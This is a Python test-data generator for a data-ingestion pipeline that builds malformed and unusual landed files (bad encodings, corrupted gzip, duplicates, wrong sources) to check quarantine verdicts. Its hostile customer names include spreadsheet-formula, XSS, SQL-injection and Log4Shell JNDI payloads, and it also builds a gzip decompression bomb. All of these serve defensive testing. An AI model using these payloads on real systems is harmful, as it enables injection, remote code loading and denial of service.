"""Unusual and broken landed files around the good ones of a fleet."""

import codecs
import gzip
import json
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from typing import Any

import numpy as np

from stedi.sources.reasons import Reason
from stedi.sources.records import CUSTOMER, SHAPES, SOURCES, STEP_TRAINER, line
from stedi_fleet.simulator.enveloped import made_of
from stedi_fleet.simulator.expected import Expectation
from stedi_fleet.simulator.line_defects import ACCEPTED, DUPLICATE, LINE_DEFECTS, LineDefect, Row
from stedi_fleet.simulator.people import HOUR_MS, Customer, birthday, serial

HOSTILE_NAMES = (
    '=HYPERLINK("http://example.org","open")',
    "@SUM(1+1)",
    "<script>alert(1)</script>",
    "Robert'; DROP TABLE customer_trusted; --",
    "${jndi:ldap://example.org/a}",
)
ENVELOPES = "dt=2025-03-03/hh=00/envelopes-1-2025-03-03-00-00-00.json.gz"
"""As Firehose names what it delivers."""

READ = "read"
QUARANTINED = "quarantined"


def gz(data: bytes) -> bytes:
    """`data` compressed, the same bytes on every call."""
    return gzip.compress(data, compresslevel=3, mtime=0)


def _two_members(data: bytes) -> bytes:
    middle = data.index(b"\n", len(data) // 2) + 1
    return gz(data[:middle]) + gz(data[middle:])


# How a good file may arrive: its name and bytes from a plain name without suffix and plain bytes.
DRESSES: Sequence[tuple[str, Callable[[str], str], Callable[[bytes], bytes]]] = (
    ("byte_order_mark", "{}.json".format, lambda data: codecs.BOM_UTF8 + data),
    ("crlf", "{}.json".format, lambda data: data.replace(b"\n", b"\r\n")),
    ("gz_named_json", "{}.json".format, gz),
    ("no_final_newline", "{}.json".format, lambda data: data[:-1]),
    ("two_gz_members", "{}.json.gz".format, _two_members),
    ("plain_named_gz", "{}.json.gz".format, lambda data: data),
    ("leading_underscore", "_{}.json".format, lambda data: data),
    ("leading_dot", ".{}.json".format, lambda data: data),
    ("folder_like_a_column", "user=evil@example.org/{}.json".format, lambda data: data),
    ("folder_like_a_file", "a.json/{}.json".format, lambda data: data),
)


class Spoiler:
    """Mixes defects into a fleet and counts them, with the verdict each must get.

    Good lines keep their order and their bytes; only more lines and files come in.
    """

    def __init__(self, seed: int, people: Sequence[Customer], expectation: Expectation) -> None:
        self._rng = np.random.default_rng([seed, 2])
        self._owners = {key: person for person in people for key in (person.email, person.serial)}
        self._people = people
        self._expectation = expectation
        self._lines: dict[str, tuple[str, Counter[str]]] = {}
        self._files: dict[str, tuple[str, Counter[str]]] = {}
        self._dressed = int(self._rng.integers(len(DRESSES)))
        self._samples: dict[str, tuple[bytes, bytes]] = {}

    def spoiled(self, source: str, stem: str, data: bytes) -> tuple[str, bytes]:
        """Mix bad lines into a good file; return the name and the bytes under which it lands."""
        good = data.splitlines(keepends=True)
        data = self._with_bad_lines(source, good)
        name, rename, dress = DRESSES[self._dressed % len(DRESSES)]
        self._dressed += 1
        self._count_file(name, source, READ)
        dressed = dress(data)
        # Never the whole file: the same content twice would be another defect.
        if few := b"".join(good[:-1][:100]):
            self._samples.setdefault(source, (few, dressed))
        return rename(stem), dressed

    def more(self) -> Iterator[tuple[str, str, bytes]]:
        """The files beside the good ones: source, name and bytes."""
        for source, (few, whole) in self._samples.items():
            plain = gzip.decompress(whole) if whole[:2] == b"\x1f\x8b" else whole
            yield self._file("same_file", source, DUPLICATE, "again.json", whole)
            yield self._file("same_file_recompressed", source, DUPLICATE, "again.json.gz", gz(plain))
            yield self._file("truncated_gz", source, Reason.BAD_COMPRESSION, "cut.json.gz", gz(few)[:-20])
            wrong_sum = bytearray(gz(few))
            wrong_sum[-8] ^= 0xFF
            yield self._file(
                "wrong_checksum", source, Reason.BAD_COMPRESSION, "sum.json.gz", bytes(wrong_sum)
            )
            yield self._file("utf_16", source, Reason.UTF16, "wide.json", few.decode().encode("utf-16"))
            yield self._file("csv", source, Reason.NOT_JSON, "table.json", _csv(few))
            other = SOURCES[SOURCES.index(source) - 1]
            if other in self._samples:
                astray = self._samples[other][0] + b"\n"
                yield self._file("wrong_source", source, Reason.WRONG_SOURCE, "astray.json", astray)
            again = few.splitlines(keepends=True)[:20]
            self._count_lines(source, "rows_of_another_file", DUPLICATE, len(again))
            yield self._file("rows_again", source, READ, "late.json", b"".join(again))
            if source != CUSTOMER:
                yield self._file("envelopes", source, READ, ENVELOPES, self._enveloped(source, few))
        yield self._file("empty", STEP_TRAINER, READ, "empty.json", b"")
        yield self._file("gz_bomb", CUSTOMER, Reason.BOMB, "bomb.json.gz", _bomb())
        yield self._file("respelt_customers", CUSTOMER, READ, "respelt.json", self._respelt())
        yield self._file("hostile_names", CUSTOMER, READ, "hostile.json", self._hostile())

    def as_json(self) -> dict[str, Any]:
        """What was mixed in: by defect, the verdict it must get and how often by source."""
        return {"lines": _told(self._lines), "files": _told(self._files)}

    def _with_bad_lines(self, source: str, good: Sequence[bytes]) -> bytes:
        rng = self._rng
        # A customer's faulty line that gave no consent would count as a withdrawal.
        usable = [i for i, text in enumerate(good) if source != CUSTOMER or b"Research" in text]
        if not usable:
            return b"".join(good)
        mixed: dict[int, list[bytes]] = {}
        bad = [d for d in LINE_DEFECTS if source in d.sources for _ in range(int(rng.integers(1, 3)))]
        # A row serves one accepted line only, for two of the same would be duplicates.
        bases = np.resize(rng.permutation(usable), len(bad))
        for defect, base in zip(bad, bases.tolist(), strict=True):
            row = Row(source, json.loads(good[base]), rng)
            made = defect.make(row) + b"\n"
            mixed.setdefault(int(rng.integers(len(good))), []).append(made)
            self._count_bad(row, defect, made.count(b"\n"))
        return b"".join(part for i, text in enumerate(good) for part in (*mixed.get(i, ()), text))

    def _count_bad(self, row: Row, defect: LineDefect, physical_lines: int) -> None:
        self._count_lines(row.source, defect.name, defect.verdict, physical_lines)
        if defect.verdict == ACCEPTED:
            owner = self._owners[row.values[SHAPES[row.source].identity]] if defect.known_owner else None
            self._expectation.add_reading(row.source, owner, row.at_ms + 1)

    def _enveloped(self, source: str, good: bytes) -> bytes:
        """A file of envelopes as Firehose writes it: several members, no final newline."""
        rows = [json.loads(text) for text in good.splitlines()]
        whose = rows[0][SHAPES[source].identity]
        owner = self._owners[whose]
        made = list(made_of(source, [r for r in rows if r[SHAPES[source].identity] == whose], self._rng))
        lines = self._expectation.lines[source]
        for each in made:
            if not each.is_broken:
                lines.update({"lines": 1, "envelopes": 1, "readings": len(each.verdicts)})
            for told in each.verdicts:
                self._count_lines(source, told.name, told.verdict, 1, physical=int(each.is_broken))
                if told.at_ms is not None:
                    self._expectation.add_reading(source, owner, told.at_ms)
        return _two_members(b"\n".join(each.line for each in made))

    def _count_lines(
        self, source: str, name: str, verdict: str, count: int, physical: int | None = None
    ) -> None:
        self._lines.setdefault(name, (verdict, Counter()))[1][source] += count
        lines = self._expectation.lines[source]
        if isinstance(verdict, Reason):
            self._expectation.reasons[source][verdict] += count
        lines[QUARANTINED if isinstance(verdict, Reason) else verdict] += count
        lines["lines"] += count if physical is None else physical

    def _count_file(self, name: str, source: str, verdict: str) -> None:
        self._files.setdefault(name, (verdict, Counter()))[1][source] += 1
        files = self._expectation.files[source]
        files[QUARANTINED if isinstance(verdict, Reason) else verdict] += 1
        files["files"] += 1

    def _file(self, name: str, source: str, verdict: str, path: str, data: bytes) -> tuple[str, str, bytes]:
        self._count_file(name, source, verdict)
        return source, path, data

    def _respelt(self) -> bytes:
        """Later records of some customers, their addresses in another case and with spaces."""
        consenting = [p for p in self._people if p.consented_ms][:5]
        for _ in consenting:
            self._expectation.add_superseded()
        self._count_lines(CUSTOMER, "email_respelt", ACCEPTED, len(consenting))
        records = [p.latest for p in consenting]
        return _lines(
            {**r, "email": f" {r['email'].upper()}  ", "lastUpdateDate": r["lastUpdateDate"] + HOUR_MS}
            for r in records
        )

    def _hostile(self) -> bytes:
        """Customers without devices whose names try to be something else; every second one consents."""
        registered_ms = min(p.registered_ms for p in self._people)
        records = [
            {
                "customerName": name,
                "email": f"name.{i}@example.com",
                "phone": "8015550199",
                "birthDay": "967-01-01" if i == 0 else birthday(self._rng),
                "serialNumber": serial(self._rng),
                "registrationDate": registered_ms - i,
                "lastUpdateDate": registered_ms,
                **({"shareWithResearchAsOfDate": registered_ms} if i % 2 == 0 else {}),
            }
            for i, name in enumerate(HOSTILE_NAMES)
        ]
        for record in records:
            self._expectation.add_record("shareWithResearchAsOfDate" in record)
        self._count_lines(CUSTOMER, "hostile_name", ACCEPTED, len(records))
        return _lines(records)


def _bomb() -> bytes:
    return gzip.compress(bytes(20_000_000), compresslevel=9, mtime=0)


def _lines(records: Iterable[Mapping[str, Any]]) -> bytes:
    return b"".join(line(record) + b"\n" for record in records)


def _csv(lines: bytes) -> bytes:
    rows = [json.loads(text) for text in lines.splitlines()]
    keys = list(rows[0])
    table = [keys, *([str(row.get(key, "")) for key in keys] for row in rows)]
    return "".join(",".join(row) + "\n" for row in table).encode()


def _told(defects: Mapping[str, tuple[str, Counter[str]]]) -> dict[str, Any]:
    return {
        name: {"verdict": verdict, "by_source": dict(sorted(counts.items()))}
        for name, (verdict, counts) in sorted(defects.items())
    }
